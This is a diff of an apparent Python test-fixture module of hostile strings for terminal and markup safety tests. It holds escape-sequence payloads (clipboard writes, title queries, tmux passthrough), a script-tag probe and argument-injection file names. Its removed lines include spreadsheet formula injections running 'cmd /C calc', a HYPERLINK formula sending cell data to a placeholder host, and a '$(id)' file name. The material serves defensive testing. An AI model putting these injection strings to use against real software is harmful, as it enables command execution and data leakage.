@@ -1,7 +1,7 @@
-"""Hostile text and hostile names: all that data could try to do to a terminal, to markup, or to a spreadsheet.
+"""Hostile text and hostile names: all that data could try to do to a terminal or to markup.
 
 Also what none of it may reach: `obeyed` finds what a terminal would obey, `sequences` takes apart what was written to
-one. The payloads are made up; nothing in them harms whoever reads this file in an editor, for all is escaped.
+one. The payloads are made up, and escaped in this file. Every text holds "zqj": a test can tell that it was shown.
 """
 
 from __future__ import annotations
@@ -13,30 +13,21 @@ from pathlib import Path
 
 PAYLOAD = "PWNED"
 """Stands in every payload of an escape sequence: where it turns up behind an ESC, something has leaked."""
-MARKER = "zqj"
-"""Stands in every hostile text, so that a test can tell that the text was shown at all."""
 
 ESCAPES = {
     "colour": "\x1b[31mzqj red\x1b[0m",
     "clears the screen": "zqj\x1b[2J\x1b[H\x1b[3J",
     "moves the cursor": "zqj\x1b[5;5Hhere\x1b[A\x1b[s\x1b[u",
-    "scrolls": "zqj\x1b[5S\x1b[1;5r\x1bM\x1bD",
     "resets": "zqj\x1bc\x1b[!p",
     "alternate screen": "zqj\x1b[?1049l\x1b[?25h\x1b[?1003h",
     "title": f"zqj\x1b]0;{PAYLOAD}\x07",
     "title asked back": "zqj\x1b[21t\x1b[c\x1b[6n\x1b[>q",
     "clipboard": f"zqj\x1b]52;c;{PAYLOAD}\x07",
-    "clipboard ended by ST": f"zqj\x1b]52;c;{PAYLOAD}\x1b\\",
     "link": f"zqj \x1b]8;;http://{PAYLOAD}.example\x1b\\click\x1b]8;;\x1b\\",
-    "notice": f"zqj\x1b]9;{PAYLOAD}\x07\x1b]777;notify;{PAYLOAD};x\x07",
-    "colours set": "zqj\x1b]4;1;#000000\x07\x1b]10;#000\x07\x1b]11;#000\x07",
-    "iTerm file": f"zqj\x1b]1337;File=inline=1:{PAYLOAD}\x07",
     "kitty picture": f"zqj\x1b_Ga=T,f=100;{PAYLOAD}\x1b\\",
     "sixel": f"zqj\x1bPq{PAYLOAD}\x1b\\",
-    "private message": f"zqj\x1b^{PAYLOAD}\x1b\\",
-    "string": f"zqj\x1bX{PAYLOAD}\x1b\\",
+    "private message and string": f"zqj\x1b^{PAYLOAD}\x1b\\\x1bX{PAYLOAD}\x1b\\",
     "tmux passthrough": f"zqj\x1bPtmux;\x1b\x1b]52;c;{PAYLOAD}\x07\x1b\\",
-    "screen passthrough": f"zqj\x1bP\x1b]52;c;{PAYLOAD}\x07\x1b\\",
     "never ended": f"zqj\x1b]0;{PAYLOAD}",
     "bare escapes": "zqj\x1b\x1b\x1b[\x1b",
     "alternate characters": "zqj\x1b(0\x0e\x0f",
@@ -46,15 +37,11 @@ CONTROLS = {
     "all of C0": "zqj" + "".join(map(chr, range(32))),
     "DEL and all of C1": "zqj" + "".join(map(chr, range(0x7F, 0xA0))),
     "overwritten by CR": "zqj good\rbad",
-    "erased by backspace": "zqj" + "\b" * 200,
-    "bells": "zqj" + "\x07" * 200,
     "separators": "zqj\u2028line\u2029paragraph\x85next",
-    "NUL": "z\0q\0j zqj",
 }
 UNSEEN = {
     "right to left override": "zqj \u202etxt.exe",
-    "isolates never ended": "zqj \u2066\u2067\u2068\u202a\u202b\u202d",
-    "marks of direction": "zqj \u200e\u200f\u061c",
+    "directions never ended": "zqj \u2066\u2067\u2068\u202a\u202b\u202d\u200e\u200f\u061c",
     "zero-width flood": "zqj" + "\u200b\u2060\ufeff" * 1500,
     "joiner flood": "zqj" + "\u200d" * 4000,
     "family that never ends": "zqj 👩" + "\u200d👩" * 800,
@@ -63,14 +50,11 @@ UNSEEN = {
     "tags": "zqj" + "".join(chr(0xE0000 + ord(char)) for char in "[31mhidden") + "\U000e007f",
     "invisible operators": "zqj\u2061\u2062\u2063\u2064\u180e\u00ad\u034f",
     "fillers": "zqj\u3164\u115f\u1160\uffa0",
-    "private use": "zqj\ue000\U000f0000\U0010fffd",
-    "no characters": "zqj\ufffe\uffff\U0001ffff\ufdd0",
-    "interlinear": "zqj\ufff9a\ufffab\ufffb",
+    "no characters": "zqj\ufffe\uffff\U0001ffff\ufdd0\ue000\U000f0000\U0010fffd\ufff9a\ufffab\ufffb",
 }
 FLOODS = {
     "4,000 marks": "zqja" + "\u0301" * 4000,
     "marks of many classes": "zqja" + "\u0316\u0301\u0345\u0591" * 1000,
-    "marks that enclose": "zqja" + "\u20dd\u0488" * 2000,
     "marks before all": "\u0301" * 4000 + "zqj",
     "wide line": "zqj" + "漢" * 5000,
     "one long word": "zqj" + "w" * 20_000,
@@ -90,19 +74,11 @@ MARKUP = {
     "entities": "zqj &#27;[31m &#x1b;]0;x&#7; &amp;#27;[31m",
     "HTML": "zqj <script>alert(1)</script> <!-- --> ]]>",
 }
-FORMULAS = {
-    "formula": "=cmd|' /C calc'!A0 zqj",
-    "link that tells": f'=HYPERLINK("http://{PAYLOAD}.example?"&A1,"zqj")',
-    "plus": "+1+cmd|' /C calc'!A0 zqj",
-    "minus": "-2+3+cmd|' /C calc'!A0 zqj",
-    "at": "@SUM(1+9)*cmd|' /C calc'!A0 zqj",
-    "quotes": 'zqj","=1+1","',
-}
 SURROGATES = {
     "lone surrogates": "zqj\ud800 \udfff \udc80",
     "bytes of a name": "zqj\udcff\udc9b31m",
 }
-TEXTS = ESCAPES | CONTROLS | UNSEEN | SURROGATES | FLOODS | FORMULAS | MARKUP
+TEXTS = ESCAPES | CONTROLS | UNSEEN | SURROGATES | FLOODS | MARKUP
 """By what each of them tries."""
 ALL_AT_ONCE = " ".join(text for text in TEXTS.values() if len(text) < 400)
 MEGABYTE = {
@@ -113,9 +89,7 @@ MEGABYTE = {
     "blanks": "zqj" + " \t\u3000" * 300_000 + "zqj",
     "nothing to be seen": "zqj" + "\u200b" * 1_000_000,
     "joiners": "zqj" + "👩\u200d" * 400_000,
-    "broken markup": "zqj" + "[" * 1_000_000,
     "entities": "zqj" + "&#27;" * 200_000,
-    "mojibake": "zqj" + "Ã©" * 400_000,
 }
 
 FILE_NAMES = (
@@ -123,11 +97,9 @@ FILE_NAMES = (
     b"zqj\x1b[31m\x1b[2J.txt",
     "zqj \u202etxt.csv".encode(),
     b"zqj\nsecond line.txt",
-    b"zqj\rfirst.txt",
     "zqj\x9b31m.txt".encode(),
     b"zqj bytes \xff\xfe\x9b31m.txt",
     b"zqj [@click=app.bell]x[].txt",
-    b"zqj [bold] :smile: $(id).txt",
     b"zqja" + "\u0301".encode() * 100 + b".txt",
     "zqj\u200b\u200d\ufeff\U000e0041.txt".encode(),
     b"-zqj --help.txt",
